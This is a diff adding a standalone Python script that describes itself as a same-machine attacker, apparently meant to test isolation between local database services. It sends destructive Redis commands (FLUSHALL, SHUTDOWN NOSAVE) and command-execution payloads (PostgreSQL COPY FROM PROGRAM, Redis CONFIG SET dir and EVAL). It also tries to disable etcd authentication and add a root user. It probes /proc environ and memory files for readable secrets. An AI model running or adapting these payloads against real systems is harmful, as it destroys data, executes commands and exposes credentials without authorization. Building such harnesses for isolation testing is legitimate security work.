@@ -1,0 +1,126 @@
+"""An attacker on the same computer, in the standard library alone. Run as a script it attacks.
+
+It says things to every port in the words of every engine, and looks at every file and process.
+"""
+
+import base64
+import json
+import os
+import re
+import socket
+import struct
+import sys
+from concurrent.futures import ThreadPoolExecutor
+
+
+def payloads(secret="", token=""):
+    """What to say: with the right secret, each gets at the key `seats` of one engine."""
+    get = b'{"kind": "get", "key": "seats"}\n'
+    put = b'{"kind": "put", "key": "seats", "value": "1"}\n'
+    line = secret.encode() + b"\n"
+    yield from (line + get, line + b'{"kind": "state"}\n', get)
+    yield from () if secret else (line + put, put, b"guess\n" + put, b"\npeer\n" + bytes(64))
+    yield b"AUTH " + secret.encode() + b"\r\nGET seats\r\n"
+    if not secret:
+        yield b"GET seats\r\nSET seats 1\r\n"
+        yield b"REPLICAOF NO ONE\r\nFLUSHALL\r\nSHUTDOWN NOSAVE\r\n"
+    for path in ("kv/range", "kv/put", "maintenance/snapshot", "auth/user/add", "auth/disable"):
+        if not secret or path == "kv/range":
+            yield _http(path, token)
+    for statement in ("SELECT value FROM pairs", "UPDATE pairs SET value = '1'"):
+        yield _postgresql(statement)
+
+
+def runs(marker):
+    """What makes an engine run or write something, if it lets anybody in."""
+    yield _postgresql(f"COPY pairs FROM PROGRAM 'touch {marker}/postgresql'")
+    yield f"CONFIG SET dir {marker}\r\nSET x 1\r\nSAVE\r\n".encode()
+    yield f"EVAL \"return redis.call('CONFIG', 'SET', 'dir', '{marker}')\" 0\r\nBGSAVE\r\n".encode()
+
+
+def _http(path, token):
+    key = "c2VhdHM="  # seats
+    body = {"key": key} | ({"value": "MQ=="} if path == "kv/put" else {"serializable": True})
+    body = body if path.startswith("kv") else {"name": "root", "password": "x"}
+    text = json.dumps(body)
+    head = f"POST /v3/{path} HTTP/1.0\r\nContent-Length: {len(text)}\r\nAuthorization: {token}\r\n"
+    return f"{head}\r\n{text}".encode()
+
+
+def _postgresql(statement):
+    """A start as superuser, an empty password, and a statement."""
+    start = struct.pack("!i", 196_608) + b"user\0postgres\0database\0postgres\0\0"
+    query = statement.encode() + b"\0"
+    return b"".join(
+        [
+            struct.pack("!i", len(start) + 4) + start,
+            b"p" + struct.pack("!i", 5) + b"\0",
+            b"Q" + struct.pack("!i", len(query) + 4) + query,
+        ]
+    )
+
+
+def talk(port, words):
+    """What a port answers."""
+    heard = b""
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=5) as link:
+            link.sendall(words)
+            link.settimeout(0.15)
+            while piece := link.recv(65_536):
+                heard += piece
+    except OSError:
+        pass  # it hangs up, or has said all
+    return heard
+
+
+def opens(path):
+    """Whether a file can be read or written, or a socket be reached."""
+    for mode in ("rb", "ab"):
+        try:
+            with open(path, mode):
+                return True
+        except OSError:
+            pass
+    try:
+        with socket.socket(socket.AF_UNIX) as link:
+            link.connect(path)
+            return True
+    except OSError:
+        return False
+
+
+def lists(folder):
+    """Whether the names in a folder can be read."""
+    try:
+        return bool(os.listdir(folder))
+    except OSError:
+        return False
+
+
+def decode(heard):
+    """Text, and what base64 hides, as etcd's answers do."""
+    text = heard.decode("utf-8", "replace")
+    found = re.findall(r"[A-Za-z0-9+/]{12,}=*", text)
+    hidden = [base64.b64decode(each[: len(each) // 4 * 4]) for each in found]
+    return text + " ".join(each.decode("utf-8", "replace") for each in hidden)
+
+
+def attack(targets):
+    """Try everything."""
+    said = [*payloads(), *runs(targets["marker"])]
+    with ThreadPoolExecutor(16) as many:
+        calls = [many.submit(talk, port, words) for port in targets["ports"] for words in said]
+        answers = [each.result() for each in calls]
+    proc = [f"/proc/{pid}/{name}" for pid in targets["pids"] for name in ("environ", "mem")]
+    return {
+        "user": getattr(os, "geteuid", int)(),
+        "calls": len(answers),
+        "answers": " ".join(map(decode, answers)),
+        "opened": [path for path in [*targets["files"], *proc] if opens(path)],
+        "listed": [path for path in [targets["folder"], *targets["files"]] if lists(path)],
+    }
+
+
+if __name__ == "__main__":
+    print(json.dumps(attack(json.loads(sys.argv[1]))))
